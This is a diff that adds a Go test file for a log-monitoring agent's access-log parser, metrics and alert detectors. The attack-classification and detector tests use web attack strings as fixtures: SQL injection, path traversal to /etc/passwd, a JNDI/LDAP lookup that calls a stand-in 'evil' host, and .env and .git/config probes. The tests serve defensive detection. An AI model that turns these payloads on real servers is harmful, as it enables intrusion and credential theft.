@@ -0,0 +1,139 @@
+package main
+
+import (
+	"fmt"
+	"strings"
+	"testing"
+	"time"
+)
+
+// TestParseAccessLine tests combined and common format lines with and without request times
+func TestParseAccessLine(t *testing.T) {
+	cases := []struct {
+		line    string
+		ok      bool
+		status  int
+		latency time.Duration
+	}{
+		{`10.0.0.1 - - [10/Oct/2026:13:55:36 +0000] "GET /api/orders?page=2 HTTP/1.1" 200 512 "-" "curl/8.0"`, true, 200, 0},
+		{`10.0.0.1 - bob [10/Oct/2026:13:55:36 +0000] "POST /login HTTP/2.0" 302 0 "https://example.com/" "Mozilla/5.0" 0.153`, true, 302, 153 * time.Millisecond},
+		{`10.0.0.1 - - [10/Oct/2026:13:55:36 +0000] "GET / HTTP/1.1" 503 0 "-" "Mozilla/5.0" rt=1.500 uct="0.001"`, true, 503, 1500 * time.Millisecond},
+		{`10.0.0.1 - - [10/Oct/2026:13:55:36 +0000] "GET /index.html HTTP/1.0" 404 209 "-" "-" 2500`, true, 404, 2500 * time.Microsecond},
+		{`192.168.1.5 - - [10/Oct/2026:13:55:36 -0700] "GET /apache_pb.gif HTTP/1.0" 200 2326`, true, 200, 0},
+		{`level=info msg="GET /health 200"`, false, 0, 0},
+		{`2026/10/10 13:55:36 [error] 7#7: *1 connect() failed`, false, 0, 0},
+	}
+	for _, c := range cases {
+		record, ok := parseAccessLine(c.line)
+		if ok != c.ok {
+			t.Errorf("parseAccessLine(%q) ok = %v, want %v", c.line, ok, c.ok)
+			continue
+		}
+		if !ok {
+			continue
+		}
+		if record.Status != c.status || record.Latency != c.latency || record.HasLatency != (c.latency != 0) {
+			t.Errorf("parseAccessLine(%q) = %+v, want status %d latency %v", c.line, record, c.status, c.latency)
+		}
+	}
+}
+
+// TestAccessRecordEndpointAndAttack tests endpoint normalization and attack classification
+func TestAccessRecordEndpointAndAttack(t *testing.T) {
+	record := accessRecord{Method: "GET", Target: "/users/42/orders/3f2b1c4e-9a7d-4c2e-8b1a-0f9e8d7c6b5a?expand=items"}
+	if got := record.endpoint(); got != "GET /users/:id/orders/:id" {
+		t.Errorf("Unexpected endpoint %q", got)
+	}
+
+	cases := map[string]accessRecord{
+		"":          {Target: "/search?q=union+station", UserAgent: "Mozilla/5.0"},
+		"sqli":      {Target: "/items?id=1%20UNION%20SELECT%20password%20FROM%20users"},
+		"traversal": {Target: "/static/..%2f..%2fetc/passwd"},
+		"rce":       {Target: "/api?x=${jndi:ldap://evil/a}"},
+		"probe":     {Target: "/.env"},
+		"scanner":   {Target: "/", UserAgent: "sqlmap/1.7"},
+	}
+	for want, record := range cases {
+		if got := record.attackKind(); got != want {
+			t.Errorf("attackKind(%q, %q) = %q, want %q", record.Target, record.UserAgent, got, want)
+		}
+	}
+}
+
+// TestAccessLogMetrics tests request rate, status classes, latency percentiles and top endpoints
+func TestAccessLogMetrics(t *testing.T) {
+	window := newAccessWindow()
+	for i := 1; i <= 100; i++ {
+		status := 200
+		if i%10 == 0 {
+			status = 502
+		}
+		line := fmt.Sprintf(`10.0.0.%d - - [10/Oct/2026:13:55:36 +0000] "GET /items/%d HTTP/1.1" %d 10 "-" "Mozilla/5.0" %d.000`, i%5, i, status, i)
+		record, ok := parseAccessLine(line)
+		if !ok {
+			t.Fatalf("Failed to parse %q", line)
+		}
+		window.add(record)
+	}
+	health, _ := parseAccessLine(`10.0.0.9 - - [10/Oct/2026:13:55:36 +0000] "GET /health HTTP/1.1" 200 2 "-" "kube-probe/1.30"`)
+	window.add(health)
+
+	m := window.metrics("nginx", 10*time.Second)
+	if m.Requests != 101 || m.RequestsPerSec != 10.1 {
+		t.Errorf("Expected 101 requests at 10.1/s, got %d at %v", m.Requests, m.RequestsPerSec)
+	}
+	if m.StatusClasses["2xx"] != 91 || m.StatusClasses["5xx"] != 10 {
+		t.Errorf("Unexpected status classes %v", m.StatusClasses)
+	}
+	if m.LatencyP50Ms != 50000 || m.LatencyP95Ms != 95000 || m.LatencyP99Ms != 99000 {
+		t.Errorf("Unexpected latency percentiles %v/%v/%v", m.LatencyP50Ms, m.LatencyP95Ms, m.LatencyP99Ms)
+	}
+	if len(m.TopEndpoints) != 2 || m.TopEndpoints[0] != (EndpointCount{Endpoint: "GET /items/:id", Requests: 100, ServerErr: 10}) {
+		t.Errorf("Unexpected top endpoints %+v", m.TopEndpoints)
+	}
+}
+
+// TestAccessLogDetectors tests that container access logs raise HTTP_5XX_SPIKE and WEB_ATTACK
+func TestAccessLogDetectors(t *testing.T) {
+	agent, err := NewAgent(Config{HTTP5xxPct: 10, HTTPMinRequests: 20, WebAttackThreshold: 3, MaxLogEntries: 1000})
+	if err != nil {
+		t.Fatalf("Failed to create agent: %v", err)
+	}
+	for i := 0; i < 30; i++ {
+		status := 200
+		if i%3 == 0 {
+			status = 500
+		}
+		agent.processLogLine("/web", fmt.Sprintf(`10.0.1.1 - - [10/Oct/2026:13:55:36 +0000] "POST /api/checkout HTTP/1.1" %d 0 "-" "Mozilla/5.0"`, status))
+	}
+	for _, target := range []string{"/.git/config", "/?id=1'%20or%20'1'='1", "/../../etc/passwd"} {
+		agent.processLogLine("/web", `203.0.113.7 - - [10/Oct/2026:13:55:37 +0000] "GET `+target+` HTTP/1.1" 404 0 "-" "Mozilla/5.0"`)
+	}
+
+	payload, err := agent.createPayload()
+	if err != nil {
+		t.Fatalf("Failed to create payload: %v", err)
+	}
+	if len(payload.Metrics.HTTP) != 1 || payload.Metrics.HTTP[0].Source != "web" || payload.Metrics.HTTP[0].Requests != 33 {
+		t.Fatalf("Expected HTTP metrics for web, got %+v", payload.Metrics.HTTP)
+	}
+	alerts := strings.Join(payload.LocalAlerts, ",")
+	if !strings.Contains(alerts, "HTTP_5XX_SPIKE:web") || !strings.Contains(alerts, "WEB_ATTACK:203.0.113.7") {
+		t.Fatalf("Expected 5xx spike and web attack alerts, got %v", payload.LocalAlerts)
+	}
+	if detail := payload.AlertDetails["HTTP_5XX_SPIKE:web"]; detail != "10 of 33 requests returned 5xx, most on POST /api/checkout" {
+		t.Errorf("Unexpected 5xx detail %q", detail)
+	}
+	if detail := payload.AlertDetails["WEB_ATTACK:203.0.113.7"]; !strings.Contains(detail, "probe=1, sqli=1, traversal=1") {
+		t.Errorf("Unexpected web attack detail %q", detail)
+	}
+
+	// The next payload starts a new window
+	payload, err = agent.createPayload()
+	if err != nil {
+		t.Fatalf("Failed to create payload: %v", err)
+	}
+	if len(payload.Metrics.HTTP) != 0 {
+		t.Errorf("Expected no HTTP metrics without new requests, got %+v", payload.Metrics.HTTP)
+	}
+}